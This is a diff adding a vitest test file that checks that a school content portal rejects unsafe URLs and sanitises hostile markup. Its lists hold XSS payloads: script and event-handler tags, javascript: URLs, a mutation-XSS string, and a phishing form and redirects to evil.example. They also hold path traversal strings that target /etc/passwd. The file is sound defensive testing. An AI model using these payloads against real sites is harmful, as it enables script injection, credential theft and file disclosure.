@@ -1,0 +1,128 @@
+import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterEach, describe, expect, test } from 'vitest';
+import { blockMarkup, inlineMarkup } from './markup.ts';
+import { readSchool } from './read.ts';
+
+const DEMO = path.resolve(import.meta.dirname, '../../../content');
+
+let folder = '';
+afterEach(() => rmSync(folder, { recursive: true, force: true }));
+
+/** What the reader finds wrong with a school that has this line in one of its files. */
+function faultsWith(file: string, text: string): string[] {
+  folder = mkdtempSync(path.join(tmpdir(), 'portal-hostile-'));
+  cpSync(path.join(DEMO, 'school.yaml'), path.join(folder, 'school.yaml'));
+  for (const [name, content] of Object.entries({ ...FILES, [file]: text })) {
+    const target = path.join(folder, name);
+    cpSync(path.join(DEMO, 'school.yaml'), target);
+    writeFileSync(target, content);
+  }
+  const { faults } = readSchool(folder, 'Asia/Kolkata');
+  rmSync(folder, { recursive: true, force: true });
+  return faults.map(({ file: at, problem }) => `${at} ${problem}`);
+}
+
+const subject = (thumbnail: string) =>
+  `key: physics\nname: Physics\nlevels: [class-11]\nthumbnail: ${JSON.stringify(thumbnail)}\n`;
+const chapter = (video: string) =>
+  `key: motion\nname: Motion\ntopics:\n  - { key: one, name: One, video: ${JSON.stringify(video)} }\n`;
+const material = (file: string) =>
+  `key: motion\nname: Motion\nmaterials:\n  - { key: one, title: One, file: ${JSON.stringify(file)} }\n`;
+const live = (url: string) =>
+  `- { key: l, subject: physics, batch: b, class_name: C, tutor: T, url: ${JSON.stringify(url)}, starts: 'today 10:00', minutes: 5 }\n`;
+const news = (image: string) => `---\nkey: n\nheading: N\nimage: ${JSON.stringify(image)}\ndate: 2026-07-14\n---\nText\n`;
+
+const FILES = {
+  'subjects/01/subject.yaml': subject('https://media.example/p.svg'),
+  'subjects/01/01/chapter.yaml': chapter('https://media.example/v.mp4'),
+};
+
+const PLACES: [string, string, (address: string) => string][] = [
+  ['the picture of a subject', 'subjects/01/subject.yaml', subject],
+  ['a video', 'subjects/01/01/chapter.yaml', chapter],
+  ['a study material', 'subjects/01/01/chapter.yaml', material],
+  ['a live class', 'live.yaml', live],
+  ['the picture of news', 'news/01.md', news],
+];
+
+const ADDRESSES = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  'ftp://example.org/v.mp4',
+  'blob:https://example.org/1',
+  'http:evil',
+  'https:/evil',
+  'https://',
+  'https://name:password@example.org/v.mp4',
+  'https:\\\\example.org\\v.mp4',
+  'https://example.org/a b',
+  '//example.org/v.mp4',
+  '/etc/passwd',
+  '\\\\example.org\\share',
+  '../../../etc/passwd',
+  'a/../../../etc/passwd',
+  'C:\\secret.mp4',
+  '',
+];
+
+describe('addresses in a content folder', () => {
+  test.each(PLACES)('SRV-09 %s may be http(s) or a file beside it, nothing else', (_place, file, write) => {
+    const accepted = ADDRESSES.filter((address) => !faultsWith(file, write(address)).some((fault) => fault.startsWith(file)));
+    expect(accepted).toEqual([]);
+    const plain = faultsWith(file, write('https://media.example/@a/b.mp4?x=1')).filter((fault) => fault.startsWith(file));
+    expect(plain.filter((fault) => !fault.includes('is not a key of'))).toEqual([]);
+  });
+});
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<iframe src="javascript:alert(1)"></iframe><object data="x"></object><embed src="x">',
+  '<a href="javascript:alert(1)">x</a> <a href="JAVASCRIPT&#58;alert(1)">x</a> <a href="&#x6A;avascript:alert(1)">x</a>',
+  '[x](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) ![x](javascript:alert(1))',
+  '<p style="background:url(https://evil.example)" onclick="alert(1)" id="root" class="x">x</p>',
+  '<form action="https://evil.example"><input name="otp"><button>Sign in</button></form>',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example">',
+  String.raw`$\href{javascript:alert(1)}{x}$ $\text{<img src=x onerror=alert(1)>}$ $\style{x:y}{z}$`,
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details><video src=x onerror=alert(1)>',
+  '`<script>alert(1)</script>`',
+];
+
+describe('markup in questions and news', () => {
+  test.each(HOSTILE)('SRV-09 is harmless once read: %s', (text) => {
+    for (const render of [inlineMarkup, blockMarkup]) {
+      let html = '';
+      try {
+        html = render(text);
+      } catch {
+        // A formula that cannot be set is a fault of the folder: nothing of it is stored.
+        continue;
+      }
+      expect(html).not.toMatch(/<(?!\/?(?:p|a|br|b|strong|i|em|u|sub|sup|code|[uo]l|li|h[23]|blockquote|math|m[a-z]+)[\s>/])/iu);
+      for (const [tag] of html.matchAll(/<[^>]+>/gu)) {
+        expect(tag).not.toMatch(/\s(?:on\w+|style|id|class|src|action|formaction|srcdoc)\s*=/iu);
+        const address = /href="([^"]*)"/u.exec(tag)?.[1];
+        if (address !== undefined) expect(address).toMatch(/^(?:https?:|mailto:|tel:|#|\/(?!\/)|[\w.-]+$)/u);
+      }
+    }
+  });
+
+  test('SRV-09 what authors do write comes through', () => {
+    expect(inlineMarkup('**E** = mc<sup>2</sup>, see [here](https://example.org)')).toBe(
+      '<strong>E</strong> = mc<sup>2</sup>, see <a href="https://example.org" rel="noopener noreferrer" target="_blank">here</a>',
+    );
+    expect(inlineMarkup('$\\frac{1}{2}$')).toContain('<mfrac>');
+  });
+});
